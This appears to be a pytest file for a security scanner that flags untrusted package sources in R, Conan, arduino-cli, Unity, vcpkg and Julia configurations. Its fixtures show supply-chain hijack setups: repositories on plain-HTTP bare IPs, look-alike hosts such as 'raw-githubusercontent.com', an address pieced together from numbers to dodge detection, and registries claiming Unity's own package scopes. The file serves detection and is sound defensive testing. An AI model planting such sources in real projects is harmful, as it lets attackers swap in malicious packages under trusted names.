"""Where other ecosystems' package managers are told to install from: R's ``options(repos = …)``
(an address built from pieces included), Conan remotes, arduino-cli board indexes, Julia's package
server and registries, Unity's scoped registries. Plain HTTP, a bare IP or a look-alike host serves
any package under its real name; a named HTTPS mirror stays quiet. Hosts are TEST-NET or ``.invalid``."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import analyse_file, scan_errors
from skillgrade.rules.security.behaviour.model import Kind, Language


def indexes(tmp_path: Path, rel: str, source: str, language: Language) -> set[str]:
    return {c.detail for c in analyse_file(tmp_path, rel, source, language) if c.kind is Kind.INSTALL_INDEX}


def test_r_repositories_set_to_an_address_pasted_from_numbers_are_an_untrusted_source(tmp_path: Path) -> None:
    source = (
        'ip <- paste(c(192, 0, 2, 33), collapse = ".")\n'
        'mirror <- paste0("http://", ip, "/R")\n'
        "local({\n"
        "  options(repos = c(GROUP = mirror, CRAN = 'https://cloud.r-project.org'))\n"
        "})\n"
        'install.packages("ggplot2")\n'
    )
    assert indexes(tmp_path, "scripts/prep.R", source, Language.R) == {"http://192.0.2.33/R"}
    assert any(rule == "UNTRUSTED_PACKAGE_SOURCE" for rule, _, _ in scan_errors(tmp_path, {"scripts/prep.R": source}))


def test_r_set_repositories_with_an_added_bare_ip_url(tmp_path: Path) -> None:
    source = 'setRepositories(ind = 1:2, addURLs = c(extra = "https://198.51.100.77/cran-extra"))\n'
    assert indexes(tmp_path, "scripts/prep.R", source, Language.R)


def test_r_repositories_on_cran_posit_or_a_named_https_mirror_stay_quiet(tmp_path: Path) -> None:
    source = (
        'options(repos = c(CRAN = "https://packagemanager.posit.co/cran/latest"))\n'
        'options(repos = c(INT = "https://rpkgs.example-lab.org/latest", CRAN = "https://cloud.r-project.org"))\n'
        "line <- 'options(repos = c(X = \"http://192.0.2.8/r\"))'\n"
        'host <- paste0("https://", "cran", ".", "r-project.org")\n'
    )
    assert not indexes(tmp_path, "scripts/prep.R", source, Language.R)


def test_a_conan_remote_on_a_bare_ip_put_first_is_an_untrusted_source(tmp_path: Path) -> None:
    source = (
        "#!/bin/sh\n"
        "base=http://192.0.2.140:9300\n"
        'conan remote add --index 0 corp-cache "$base/api/conan/main"\n'
        "conan install . --build=missing\n"
    )
    assert indexes(tmp_path, "tools/remotes.sh", source, Language.SHELL) == {"http://192.0.2.140:9300/api/conan/main"}


def test_arduino_cli_board_indexes_given_on_the_command_line_or_in_its_config(tmp_path: Path) -> None:
    shell = (
        "arduino-cli core update-index --additional-urls https://dl.espressif.com/x.json,http://198.51.100.3/b.json\n"
    )
    assert indexes(tmp_path, "flash.sh", shell, Language.SHELL) == {"http://198.51.100.3/b.json"}
    added = "arduino-cli config add board_manager.additional_urls https://203.0.113.81/boards/index.json\n"
    assert indexes(tmp_path, "setup.sh", added, Language.SHELL)
    config = (
        "board_manager:\n"
        "  additional_urls:\n"
        "    - https://adafruit.github.io/arduino-board-index/package_adafruit_index.json\n"
        "    - https://raw-githubusercontent.com/boards/package_stm_index.json\n"
        "directories:\n"
        "  user: ~/Arduino\n"
    )
    errors = scan_errors(tmp_path, {"config/arduino-cli.yaml": config})
    assert ("UNTRUSTED_PACKAGE_SOURCE", "config/arduino-cli.yaml", 4) in errors
    assert ("UNTRUSTED_PACKAGE_SOURCE", "config/arduino-cli.yaml", 3) not in errors


def test_a_unity_scoped_registry_claiming_unity_packages_or_on_plain_http(tmp_path: Path) -> None:
    claimed = (
        "{\n"
        '  "dependencies": {"com.unity.inputsystem": "1.7.0"},\n'
        '  "scopedRegistries": [\n'
        '    {"name": "Cache", "url": "https://upm.render-farm.example-studio.net", "scopes": ["com.unity.xr"]}\n'
        "  ]\n"
        "}\n"
    )
    plain = '{"name": "mirror", "url": "http://198.51.100.12:4873", "scopes": ["jp.keijiro"]}\n'
    errors = scan_errors(tmp_path, {"Packages/manifest.json": claimed, "assets/upm-entry.json": plain})
    assert ("UNTRUSTED_PACKAGE_SOURCE", "Packages/manifest.json", 4) in errors
    assert ("UNTRUSTED_PACKAGE_SOURCE", "assets/upm-entry.json", 1) in errors


def test_openupm_a_vendor_vcpkg_registry_and_a_named_conan_remote_stay_quiet(tmp_path: Path) -> None:
    manifest = (
        '{"scopedRegistries": [{"name": "OpenUPM", "url": "https://package.openupm.com",\n'
        '  "scopes": ["com.cysharp", "com.neuecc"]}]}\n'
    )
    vcpkg = (
        '{"default-registry": {"kind": "git", "repository": "https://github.com/microsoft/vcpkg",\n'
        '  "baseline": "0123456789abcdef0123456789abcdef01234567"},\n'
        ' "registries": [{"kind": "artifact", "name": "microsoft",\n'
        '  "location": "https://github.com/microsoft/vcpkg-ce-catalog/archive/refs/heads/main.zip"}]}\n'
    )
    conan = "conan remote add team https://conan.build-infra.example.org/artifactory/api/conan/team\n"
    files = {"Packages/manifest.json": manifest, "vcpkg-configuration.json": vcpkg, "scripts/remotes.sh": conan}
    assert not scan_errors(tmp_path, files)


def test_a_vcpkg_registry_on_a_bare_ip_is_an_untrusted_source(tmp_path: Path) -> None:
    vcpkg = (
        "{\n"
        '  "registries": [\n'
        '    {"kind": "git", "repository": "http://203.0.113.140/ports.git", "packages": ["zlib", "openssl"],\n'
        '     "baseline": "89abcdef0123456789abcdef0123456789abcdef"}\n'
        "  ]\n"
        "}\n"
    )
    assert ("UNTRUSTED_PACKAGE_SOURCE", "vcpkg-configuration.json", 3) in scan_errors(
        tmp_path, {"vcpkg-configuration.json": vcpkg}
    )


def test_julia_package_server_and_registry_read_from_the_skills_own_data_file(tmp_path: Path) -> None:
    settings = '{\n  "mirror": {"server": "http://198.51.100.230:8000"},\n  "extra": [{"url": "https://gitlab.com.pkg-sync.net/reg.git"}]\n}\n'
    script = (
        "import JSON\n"
        'conf = JSON.parsefile(joinpath(@__DIR__, "..", "data", "site.json"))\n'
        'ENV["JULIA_PKG_SERVER"] = conf["mirror"]["server"]\n'
        'for reg in conf["extra"]\n'
        '    Pkg.Registry.add(RegistrySpec(url = reg["url"]))\n'
        "end\n"
    )
    errors = scan_errors(tmp_path, {"data/site.json": settings, "bin/boot.jl": script})
    assert ("UNTRUSTED_PACKAGE_SOURCE", "bin/boot.jl", 3) in errors
    assert ("UNTRUSTED_PACKAGE_SOURCE", "bin/boot.jl", 5) in errors


def test_julia_package_server_exported_by_the_shell_on_a_bare_ip(tmp_path: Path) -> None:
    source = "export JULIA_PKG_SERVER=http://192.0.2.200:8080\njulia -e 'using Pkg; Pkg.instantiate()'\n"
    assert indexes(tmp_path, "env.sh", source, Language.SHELL) == {"http://192.0.2.200:8080"}


def test_a_named_https_julia_mirror_from_a_data_file_stays_quiet(tmp_path: Path) -> None:
    settings = 'server = "https://mirrors.example-university.edu/julia"\n'
    script = (
        'cfg = TOML.parsefile(joinpath(@__DIR__, "mirror.toml"))\n'
        'ENV["JULIA_PKG_SERVER"] = cfg["server"]\n'
        'Pkg.add("CSV")\n'
    )
    assert not scan_errors(tmp_path, {"scripts/mirror.toml": settings, "scripts/go.jl": script})


def test_a_scoped_registry_on_a_documentation_host_claiming_unity_names_is_an_error(tmp_path: Path) -> None:
    """A reserved documentation name would pass as a placeholder the reader fills in; one declared for
    Unity's own scopes takes every package of those names, wherever it points."""
    manifest = (
        '{\n  "scopedRegistries": [\n    {\n      "name": "art-tools",\n      "url": "https://pkgs.shader-lab.example.com",\n'
        '      "scopes": [\n        "com.unity.shadergraph",\n        "com.unity.textmeshpro"\n      ]\n    }\n  ]\n}\n'
    )
    errors = scan_errors(tmp_path, {"Packages/manifest.json": manifest})
    assert any(rule == "UNTRUSTED_PACKAGE_SOURCE" for rule, _, _ in errors)


def test_a_scoped_registry_on_a_documentation_host_for_its_own_scope_is_no_error(tmp_path: Path) -> None:
    manifest = (
        '{"scopedRegistries": [{"name": "studio", "url": "https://upm.studio.example.com",\n'
        '  "scopes": ["com.studio.tools", "com.studio.audio"]}]}\n'
    )
    assert not scan_errors(tmp_path, {"Packages/manifest.json": manifest})
